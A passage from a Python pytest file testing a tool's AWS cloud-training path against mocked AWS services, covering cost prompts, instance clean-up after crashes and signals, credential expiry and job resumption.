    big = shards.Manifest("moods", ["dark", "bright", "warm"], P, [shards.ShardInfo("0" * 64, 900_000, 10**9)])
    with pytest.raises(cloud.CloudError, match=r"more than the 4 hours an instance may run .* nothing was launched"):
        cloud.estimate(settings, big, "{}", 10**9)
    longer = dataclasses.replace(settings, max_hours=12.0)  # the client waits 6 hours (timeout_s): cut off then
    with pytest.raises(cloud.CloudError, match=r"more than the 21600 s this machine waits .* raise timeout_s"):
        cloud.estimate(longer, big, "{}", 10**9)
    assert cloud.estimate(dataclasses.replace(longer, timeout_s=12 * 3600.0), big, "{}", 10**9).minutes > 240


def test_the_cloud_module_loads_neither_boto3_nor_torch_until_a_job_runs() -> None:
    code = (
        "import sys, vibrary.daemon.cloud, vibrary.clients.cli; "
        "assert not {'boto3', 'botocore', 'torch'} & set(sys.modules), sorted(sys.modules)"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_the_cost_prompt_launches_only_when_accepted(capsys: pytest.CaptureFixture[str]) -> None:
    from vibrary.clients.cli import build_parser
    from vibrary.clients.training_commands import confirm_cost

    scripted = build_parser().parse_args(["train", "d", "--trainer", "cloud"])
    assert not confirm_cost(scripted)("about $0.06")  # no terminal to ask on (pytest's stdin), no --yes
    assert "pass --yes" in capsys.readouterr().err
    assert confirm_cost(build_parser().parse_args(["train", "d", "--trainer", "cloud", "--yes"]))("about $0.06")


def test_the_cost_prompt_is_asked_on_a_terminal_and_said_on_stderr(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """input() wrote its prompt to stdout: `vibrary train … --json | jq` lost it in the pipe, and the JSON
    line after it began with `launch? [y/N] `."""
    import pty

    from vibrary.clients.cli import build_parser
    from vibrary.clients.training_commands import confirm_cost

    terminal, answers = pty.openpty()
    with os.fdopen(answers, "r") as typed:
        monkeypatch.setattr(sys, "stdin", typed)
        asked = confirm_cost(build_parser().parse_args(["train", "d", "--trainer", "cloud", "--json"]))
        for answer, launches in ((b"y\n", True), (b"no\n", False)):
            os.write(terminal, answer)
            assert asked("about $0.06") is launches
    os.close(terminal)
    said = capsys.readouterr()
    assert said.out == "" and said.err.count("launch? [y/N] ") == 2


def _train_kinds(home: Path, index: Index, **how: Any) -> Any:
    """`kinds` trained in the cloud from no base, its cost accepted."""
    from vibrary.daemon import training

    return training.train(home, "kinds", index=index, trainer="cloud", base="none", confirm=lambda text: True, **how)


def _kinds_dataset(home: Path, tmp_path: Path) -> Index:
    """A dataset "kinds" of 6 clips per kind in `home`, and the home's index."""
    from vibrary.daemon import config, dataset

    write_kinds(tmp_path / "ex", per_kind=6, seed=3)
    dataset.build(home, "kinds", dataset.examples_from_folders([str(tmp_path / "ex")]))
    return Index(config.index_path(home))


def test_vibrary_train_in_the_cloud_installs_the_model_and_a_decline_says_what_it_would_cost(
    aws: dict[str, Any], home: Path, tmp_path: Path
) -> None:
    """The path `vibrary train --trainer cloud` and the daemon's Train RPC share: daemon/training.py."""
    from vibrary.daemon import training

    index = _kinds_dataset(home, tmp_path)
    registry.ensure_models(index, home)
    seen: list[training.TrainProgress] = []
    try:
        with pytest.raises(training.Cancelled, match="not accepted"):
            training.train(home, "kinds", index=index, trainer="cloud", base="none", progress=seen.append)
        assert seen[-1].state == "cancelled" and "$0.526/hour" in seen[-1].error  # the estimate, to decide on
        assert _states(aws["ec2"]) == [] and _keys(aws["s3"]) == []

        seen.clear()
        with Instances(aws["ec2"], aws["env"]) as instances:
            trained = training.train(
                home,
                "kinds",
                index=index,
                trainer="cloud",
                base="none",
                options={"epochs": 2},
                confirm=lambda text: "g4dn.xlarge" in text,
                progress=seen.append,
            )
        assert [r.returncode for r in instances.runs] == [0], [r.stderr[-2000:] for r in instances.runs]
        states = [p.state for p in seen]
        assert {"uploading", "waiting", "training", "installing"} <= set(states) and states[-1] == "succeeded"
        assert trained.row.ref == "kinds@1" and list(trained.row.classes) == sorted(KINDS)
        assert {m.ref for m in index.active_models()} >= {"kinds@1"} and len(trained.plots) == 2
    finally:
        index.close()
    tagged = json_lines(vibrary("tag", "--json", "--model", "kinds", str(tmp_path / "ex"), home=home).stdout)
    assert len(tagged) == 6 * len(KINDS) and all(line["tags"][0]["model"] == "kinds" for line in tagged)


def test_a_cloud_job_left_by_a_stopping_daemon_trains_on_and_is_collected_later(
    aws: dict[str, Any], home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The daemon stops (leave) mid-training: the instance is not terminated, and `resume` installs the model,
    though it starts before the network is up (it failed the job, and dropped its record: the results lay in
    the bucket for good). This machine reaches AWS (moto) through a relay that can refuse it."""
    from vibrary.daemon import training

    from tests.test_trainer import _Link

    link = _Link(aws["env"]["AWS_ENDPOINT_URL"].removeprefix("http://"))
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://{link.address}")
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    index = _kinds_dataset(home, tmp_path)
    leave = threading.Event()
    recorded: list[training.JobRecord] = []
    seen: list[training.TrainProgress] = []

    def progress(p: training.TrainProgress) -> None:
        seen.append(p)
        if p.state == "training" and p.epoch >= 1:
            leave.set()

    try:
        with Instances(aws["ec2"], aws["env"]) as instances:
            with pytest.raises(training.Detached):
                _train_kinds(
                    home,
                    index,
                    options={"epochs": 30, "patience": 30},
                    progress=progress,
                    leave=leave,
                    on_started=lambda record: recorded.append(dataclasses.replace(record)),
                )
            launching, launched, job = recorded  # on record as it launches, at its launch (mid-upload), then once
            assert launching.job_id == job.job_id and launching.instance == ""  # the job had it all
            assert launched.uploading and launched.instance == job.instance and not job.uploading
            assert job.trainer == "cloud" and job.instance and seen[-1].state == "training"
            assert _states(aws["ec2"]) == ["running"]  # left training, not terminated
            assert f"{cloud.job_prefix(job.job_id)}job.json" in _keys(aws["s3"], "jobs/")
            assert not any(p.state in training.FINISHED for p in seen)

            seen.clear()
            link.outage()  # the network not up yet, for a second
            trained = training.resume(home, job, index=index, progress=seen.append)
        assert [r.returncode for r in instances.runs] == [0], [r.stderr[-2000:] for r in instances.runs]
        assert trained.row.ref == "kinds@1" and trained.summary["epochs_run"] == 30  # the one run, to its end
        assert seen[-1].state == "succeeded" and "started before the daemon restarted" in seen[0].message
        assert any(p.message.startswith("AWS is out of reach") for p in seen)
        assert _states(aws["ec2"]) == ["terminated"] and _keys(aws["s3"], "jobs/") == []  # cleaned up then
    finally:
        index.close()
        link.close()


def test_a_daemon_killed_mid_upload_ends_its_instance_at_the_next_start(
    aws: dict[str, Any], home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An instance is launched while the upload goes on (it boots meanwhile); a daemon killed then (a
    crash, a power cut, a stop that outwaited its grace) left it running for hours, waiting for shards,
    and its record said nothing of it. It is on record from its launch, and the next start ends it."""
    from vibrary.daemon import training

    index = _kinds_dataset(home, tmp_path)
    recorded: list[training.JobRecord] = []

    class Killed(BaseException):  # what a kill -9 leaves: no clean-up ran
        pass

    def killed_mid_upload(p: training.TrainProgress) -> None:
        if p.state == "uploading" and recorded:
            raise Killed

    try:
        with monkeypatch.context() as dead, pytest.raises(Killed):
            dead.setattr(cloud._Job, "clean_up", lambda self: None)  # the process died: nothing ran
            _train_kinds(
                home,
                index,
                progress=killed_mid_upload,
                on_started=lambda record: recorded.append(dataclasses.replace(record)),
            )
        launched = recorded[-1]
        assert launched.uploading and launched.instance and _states(aws["ec2"]) == ["running"]
        with pytest.raises(training.TrainingError, match=f"instance {launched.instance} was terminated"):
            training.resume(home, launched, index=index)
        assert _states(aws["ec2"]) == ["terminated"] and _keys(aws["s3"], "jobs/") == []
        assert _keys(aws["s3"], "shards/")  # kept for the next try
    finally:
        index.close()


def test_a_daemon_killed_as_it_launches_ends_the_instance_at_the_next_start(
    aws: dict[str, Any], home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Killed between RunInstances and the record of the instance it returned: the instance trained on (all
    shards up) or waited for them, and no record named it. The job is on record before the launch, and the
    next start finds its instance by the job's tag and ends it."""
    from vibrary.daemon import training

    index = _kinds_dataset(home, tmp_path)
    recorded: list[training.JobRecord] = []

    class Killed(BaseException):
        pass

    def launched_then_killed(*args: Any, **kwargs: Any) -> str:
        launch(*args, **kwargs)
        raise Killed  # (no clean-up runs either)

    launch = cloud.launch
    try:
        with monkeypatch.context() as dead, pytest.raises(Killed):
            dead.setattr(cloud._Job, "clean_up", lambda self: None)
            dead.setattr(cloud, "launch", launched_then_killed)
            _train_kinds(home, index, on_started=lambda record: recorded.append(dataclasses.replace(record)))
        (before,) = recorded
        assert before.job_id and before.instance == "" and before.uploading and _states(aws["ec2"]) == ["running"]
        with pytest.raises(training.TrainingError, match="the instance launched for it, if any, was terminated"):
            training.resume(home, before, index=index)
        assert _states(aws["ec2"]) == ["terminated"] and _keys(aws["s3"], "jobs/") == []
    finally:
        index.close()


def test_a_cloud_training_that_hangs_ends_said_so_not_at_max_hours() -> None:
    """A training that stopped asking for batches (a wedged GPU driver, a deadlock) held its paid instance until
    max_hours: the job says it hung and its process ends (and with it the instance), once no batch came for
    HUNG_S; batches coming keep it going."""
    from vibrary.trainer import s3job

    said: list[tuple[str, dict[str, Any]]] = []
    ended: list[int] = []
    with s3job._Watchdog(lambda state, **fields: said.append((state, fields)), hung_s=0.5, end=ended.append) as dog:
        for _ in range(20):  # a second of batches, none more than 0.05 s apart
            assert dog.beat() is False
            time.sleep(0.05)
        assert ended == [] and said == []
        wait_for(lambda: ended == [3], timeout=10)
    error = "the training hung: no batch in 0.00833333 minutes; the instance ends"
    assert said == [("FAILED", {"force": True, "error": error})]


def test_an_instance_aws_does_not_know_yet_is_pending_and_still_terminated() -> None:
    """Right after RunInstances, EC2 may answer InvalidInstanceID.NotFound (its API is eventually
    consistent): that is a starting instance, not a failure, and clean_up keeps asking to terminate it
    rather than give up and leave it training at the user's cost. botocore's Stubber plays EC2's answers."""
    from botocore.stub import Stubber

    ec2 = boto3.client("ec2", region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="x")
    s3 = boto3.client("s3", region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="x")
    settings = cloud.CloudSettings(bucket=BUCKET, poll_s=0.0)
    job = cloud._Job(settings, s3, ec2, "us-east-1", "j1", "i-0123456789abcdef0", launched_at=time.time())
    not_found = {"service_error_code": "InvalidInstanceID.NotFound", "service_message": "does not exist"}
    with Stubber(ec2) as ec2_stub, Stubber(s3) as s3_stub:
        ec2_stub.add_client_error("describe_instances", **not_found)
        assert cloud.instance_state(ec2, job.instance, job.fresh) == "pending"
        ec2_stub.add_response("describe_instances", {"Reservations": []})  # its tag is not searchable yet either
        ec2_stub.add_client_error("terminate_instances", **not_found)
        ec2_stub.add_response("terminate_instances", {}, {"InstanceIds": [job.instance]})
        s3_stub.add_response("list_objects_v2", {})
        job.clean_up()
        ec2_stub.assert_no_pending_responses()

    # collected the next morning: AWS forgot the instance, which ended itself after training. It read as
    # pending for the six hours of timeout_s, and clean_up's "could not terminate" failed the job and lost
    # its model; now an instance this process did not launch moments ago and AWS does not know is gone.
    later = cloud._Job(settings, s3, ec2, "us-east-1", "j1", "i-0123456789abcdef0")
    with Stubber(ec2) as ec2_stub, Stubber(s3) as s3_stub:
        ec2_stub.add_client_error("describe_instances", **not_found)
        assert cloud.instance_state(ec2, later.instance, later.fresh) == "terminated"
        ec2_stub.add_response("describe_instances", {"Reservations": []})
        ec2_stub.add_client_error("terminate_instances", **not_found)
        s3_stub.add_response("list_objects_v2", {})
        later.clean_up()  # no CloudError
        ec2_stub.assert_no_pending_responses()


def test_a_launch_aws_refuses_says_so_at_once_and_names_the_quota() -> None:
    """RunInstances refused (a new account's GPU quota is none): the clean-up looked for the instance by its
    tag for a minute and more (10 tries, poll_s apart) before the refusal was said, which named no way on."""
    from botocore.stub import Stubber

    ec2 = boto3.client("ec2", region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="x")
    s3 = boto3.client("s3", region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="x")
    job = cloud._Job(cloud.CloudSettings(bucket=BUCKET, poll_s=30.0), s3, ec2, "us-east-1", "j1")
    with Stubber(ec2) as ec2_stub, Stubber(s3) as s3_stub:
        ec2_stub.add_client_error("run_instances", "VcpuLimitExceeded", "You have requested more vCPU capacity")
        with pytest.raises(cloud.AwsRefused, match="ask for more in the Service Quotas console"):
            job.launch(lambda p: None, "test")
        ec2_stub.add_response("describe_instances", {"Reservations": []})  # once: no try after try, 30 s apart
        s3_stub.add_response("list_objects_v2", {})
        job.clean_up()
        ec2_stub.assert_no_pending_responses()
        # AWS's own error after botocore's retries: an attempt may have launched it, which its tag finds
        ec2_stub.add_client_error("run_instances", "InternalError", "try again", http_status_code=500)
        with pytest.raises(Exception, match="InternalError"):
            job.launch(lambda p: None, "test")
        assert job.fresh
        # no capacity, sent as a 500 too: a refusal all the same (it searched by tag for 100 s, unsaid)
        ec2_stub.add_client_error("run_instances", "InsufficientInstanceCapacity", "none", http_status_code=500)
        with pytest.raises(cloud.AwsRefused, match=r"AWS has no g4dn\.xlarge free in us-east-1 now"):
            job.launch(lambda p: None, "test")
        assert not job.fresh
    with Stubber(s3) as s3_stub:  # a bucket of another account's (names are global): named, with its setting
        s3_stub.add_client_error("head_bucket", "403", "Forbidden", http_status_code=403)
        with pytest.raises(cloud.CloudError, match=f"bucket '{BUCKET}' .* is not yours to use: another account's"):
            cloud.check_bucket(s3, BUCKET)


def test_a_cloud_job_refuses_to_train_on_a_cpu_at_gpu_prices(monkeypatch: pytest.MonkeyPatch) -> None:
    """The Dockerfile's default build has the CPU wheel: pushed as the cloud image, it trained on the
    GPU instance's CPU at 20-50 times the estimate, and could end at max_hours with nothing."""
    torch = pytest.importorskip("torch")
    if torch.cuda.is_available():
        pytest.skip("this machine has a GPU")
    from vibrary.trainer import s3job

    monkeypatch.delenv("VIBRARY_JOB_ALLOW_CPU", raising=False)
    with pytest.raises(ValueError, match=r"no CUDA GPU .* TORCH_INDEX=https://download\.pytorch\.org/whl/cu128"):
        s3job._require_gpu()
    monkeypatch.setenv("VIBRARY_JOB_ALLOW_CPU", "1")
    s3job._require_gpu()


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
def test_vibrary_train_killed_or_hung_up_ends_its_instance(
    aws: dict[str, Any], home: Path, tmp_path: Path, sig: int
) -> None:
    """A closed terminal (SIGHUP) or a `kill` (SIGTERM) ended `vibrary train --trainer cloud` at once,
    its instance left running at the user's cost; now they end the job as Ctrl-C does."""
    _kinds_dataset(home, tmp_path).close()
    env = {**os.environ, "VIBRARY_HOME": str(home)}
    proc = subprocess.Popen(
        [
            *FROM_A_TERMINAL,
            sys.executable,
            "-m",
            "vibrary.clients.cli",
            "train",
            "kinds",
            "--trainer",
            "cloud",
            "--base",
            "none",
            "--yes",
        ],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        wait_for(lambda: _states(aws["ec2"]) == ["running"] or proc.poll() is not None, timeout=60)
        assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
        proc.send_signal(sig)
        assert proc.wait(60) == 128 + sig  # (130 for a Ctrl-C)
        said = proc.stderr.read().decode() if proc.stderr else ""
    finally:
        proc.kill()
        proc.wait()
    assert _states(aws["ec2"]) == ["terminated"] and _keys(aws["s3"], "jobs/") == []
    assert said.count("$0.526/hour") == 1, said  # the estimate, once (it was printed twice)
    assert "vibrary: training cancelled; its cloud instance is terminated" in said


def test_a_daemon_stopping_mid_upload_ends_the_job_and_a_restart_without_aws_keeps_the_record(
    aws: dict[str, Any], home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stop during the upload (leave) terminated the instance but said the job was left to it, and the
    next start failed it; and a restart that could not reach AWS to end an instance launched mid-upload
    dropped the record, leaving the instance to run for hours with nothing on record to end it."""
    from vibrary.daemon import training

    index = _kinds_dataset(home, tmp_path)
    leave = threading.Event()
    recorded: list[training.JobRecord] = []

    def on_record(record: training.JobRecord) -> None:
        recorded.append(dataclasses.replace(record))
        leave.set()  # the daemon is told to stop as the instance is launched, the upload not done

    try:
        with pytest.raises(training.TrainingError, match="the daemon stopped during the upload: instance i-") as e:
            _train_kinds(home, index, leave=leave, on_started=on_record)
        assert not isinstance(e.value, training.Detached)
        assert _states(aws["ec2"]) == ["terminated"] and _keys(aws["s3"], "jobs/") == []

        launched = recorded[-1]  # (the first, as it launched: no instance yet)
        assert launched.uploading and launched.instance and launched.launched_at > 0
        monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{_free_port()}")  # nobody answers
        monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
        with pytest.raises(training.Detached, match=f"instance {launched.instance} could not be ended yet"):
            training.resume(home, launched, index=index)
    finally:
        index.close()


def test_a_cloud_job_unfollowed_for_want_of_credentials_ends_for_now_and_stays_on_record(
    aws: dict[str, Any], home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A restart whose AWS credentials had run out (an SSO session) failed the job and dropped its record: the
    instance trained on, paid for, and its model was never collected. Now the job ends for now, as failed (a
    training slot kept busy by it could not be cancelled), on record for the next start; a refusal of another
    kind (here a bucket that is not there), or a job launched days ago, fails and is forgotten as before."""
    from vibrary.daemon import training

    index = _kinds_dataset(home, tmp_path)
    record = training.JobRecord(
        dataset="kinds", name="kinds", trainer="cloud", job_id="0123abcd", instance="i-1", launched_at=time.time()
    )
    said: list[training.TrainProgress] = []
    try:
        with monkeypatch.context() as no_credentials:
            for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
                no_credentials.delenv(key)
            with pytest.raises(training.KeptOnRecord, match="renew the AWS credentials and restart the daemon"):
                training.resume(home, record, index=index, progress=said.append)
            assert said[-1].state == "failed"
            old = dataclasses.replace(record, launched_at=time.time() - 3 * 86400)
            with pytest.raises(training.TrainingError) as forgotten:
                training.resume(home, old, index=index)
            assert not isinstance(forgotten.value, training.KeptOnRecord)
            dropped = str(forgotten.value)  # (dropped, what was left unsaid)
            assert "launched long ago: its instance has ended itself" in dropped and "delete jobs/0123abcd/" in dropped
        monkeypatch.setenv("VIBRARY_CLOUD_BUCKET", "no-such-bucket")
        with pytest.raises(training.TrainingError) as refused:  # (its clean-up tried, too)
            training.resume(home, record, index=index)
        assert not isinstance(refused.value, training.KeptOnRecord)
    finally:
        index.close()


def test_credentials_that_run_out_while_a_job_is_followed_leave_it_training_and_say_so() -> None:
    """Credentials that ran out while a job was followed met the clean-up, which failed with them ("could not
    terminate instance …"), so the job was failed and forgotten: the model never collected. AWS's errors come
    raw to the wait (inside _aws): without credentials nothing is cleaned up; the daemon keeps the job on record
    (the test above), and `vibrary train`, which keeps none, says what is left running."""
    from botocore.exceptions import ClientError
    from vibrary.daemon import cloud, training

    expired = ClientError({"Error": {"Code": "ExpiredToken", "Message": "expired"}}, "DescribeInstances")

    class Followed:  # a job whose wait meets AWS's refusal (the boundary: what _Job's calls to AWS raise)
        def __init__(self, error: Exception) -> None:
            self.error, self.cleaned = error, False

        def wait(self, progress: object) -> None:
            raise self.error

        def clean_up(self) -> None:
            self.cleaned = True

    from botocore.exceptions import CredentialRetrievalError, SSOTokenLoadError, UnauthorizedSSOTokenError

    refused = ClientError({"Error": {"Code": "AccessDenied"}}, "X")
    sso: tuple[Exception, ...] = (UnauthorizedSSOTokenError(), SSOTokenLoadError(error_msg="no token cache"))
    sso += (CredentialRetrievalError(provider="custom-process", error_msg="expired"),)  # (an older SSO profile's)
    for error, cleaned in ((expired, False), *((e, False) for e in sso), (refused, True)):
        job = Followed(error)
        with pytest.raises(type(error)):
            cloud._outcome(job, lambda p: None)
        assert job.cleaned is cleaned, error
    record = training.JobRecord("kinds", "kinds", "cloud", job_id="0123abcd", instance="i-1", launched_at=time.time())
    refused = pytest.raises(training.TrainingError, match="see that instance i-1 is terminated in the EC2 console")
    with refused as said, training._followed(cloud, record, on_record=False):
        raise cloud.AwsRefused(f"AWS: {expired}") from expired
    assert not isinstance(said.value, training.KeptOnRecord) and "i-1" in str(said.value)


def test_a_job_record_leaves_out_what_an_older_version_cannot_read(tmp_path: Path) -> None:
    """An older version refused a record with fields it did not know, and forgot a running job."""
    from vibrary.daemon import training

    path = tmp_path / "training.json"
    training.JobRecord("ds", "ds", "local", job_id="j").save(path)
    assert set(json.loads(path.read_text())) == {
        "dataset",
        "name",
        "trainer",
        "token",
        "job_id",
        "classes",
        "upload_bytes",
        "instance",
    }
    training.JobRecord("ds", "ds", "cloud", job_id="j", instance="i", uploading=True, launched_at=1.0).save(path)
    assert training.JobRecord.load(path) == training.JobRecord(
        "ds", "ds", "cloud", job_id="j", instance="i", uploading=True, launched_at=1.0
    )


def test_a_signal_during_a_launch_is_handled_once_it_is_heard_of() -> None:
    """The instance was running, its caller not yet told, when a Ctrl-C came (CI): the instance was ended all
    the same (the job's tag finds it), but `vibrary train` said "nothing was launched". A signal meanwhile
    is handled when the launch is heard of."""
    from vibrary.daemon import cloud as cloud_module

    heard: list[str] = []
    with pytest.raises(KeyboardInterrupt), cloud_module._signals_held():
        os.kill(os.getpid(), signal.SIGINT)
        time.sleep(0.1)  # (a signal is handled at the next instruction: there are many meanwhile)
        heard.append("launched")
    assert heard == ["launched"]
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # the handler put back


def test_an_instance_whose_uploader_went_quiet_ends_instead_of_waiting_hours(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A laptop closed or a `vibrary train` killed mid-upload left its instance waiting 3 hours for shards at
    GPU prices, and nothing on the user's side knew of it: the uploader rewrites uploading.json as it sends,
    and the job ends once that has been quiet for UPLOAD_SILENT_S (here 1 s)."""
    from vibrary.trainer import s3job

    monkeypatch.setattr(s3job, "UPLOAD_SILENT_S", 1.0)
    monkeypatch.setattr(s3job, "POLL_S", 0.1)
    manifest = _dataset(tmp_path / "shards", per_kind=2, clips_per_shard=4)
    s3 = aws["s3"]
    first = manifest.shards[0].sha256
    s3.put_object(Bucket=BUCKET, Key=cloud.shard_key(first), Body=(tmp_path / "shards" / f"{first}.npz").read_bytes())
    report = s3job._Reporter(s3, BUCKET, "jobs/x/progress.json")
    cloud.put_json(s3, BUCKET, "jobs/x/uploading.json", {"uploaded_bytes": 1})
    started = time.monotonic()
    with pytest.raises(shards.ShardError, match="the computer uploading the dataset has sent nothing for"):
        s3job._shards(s3, BUCKET, manifest, report, "jobs/x/uploading.json")
    assert time.monotonic() - started < 30  # not SHARD_WAIT_S
    progress = json.loads(s3.get_object(Bucket=BUCKET, Key="jobs/x/progress.json")["Body"].read())
    assert progress["state"] == "WAITING"  # (it waited while the uploader was heard)


def test_a_cloud_job_that_cannot_reach_its_bucket_says_so_as_a_command_error(home: Path) -> None:
    """With no credentials (an instance role missing), the job's failure could not be written either, and the
    command ended in a two-screen traceback with no `{"error": …}` line under --json."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env.update(VIBRARY_HOME=str(home), AWS_EC2_METADATA_DISABLED="true", AWS_DEFAULT_REGION="us-east-1")
    env.update(AWS_SHARED_CREDENTIALS_FILE=str(home / "none"), AWS_CONFIG_FILE=str(home / "none"))
    argv = [sys.executable, "-m", "vibrary.clients.cli", "trainer", "run-s3", "--json", "s3://b/jobs/x/job.json"]
    proc = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=120)
    *_, last = proc.stdout.splitlines()
    said = json.loads(last)
    assert proc.returncode == 1 and said["exit_status"] == 1  # the job's own log keeps its traceback, then:
    assert proc.stderr.splitlines()[-1] == f"vibrary: {said['error']}"
    assert said["error"].startswith("cloud job failed: NoCredentialsError") and "could not be written" in said["error"]
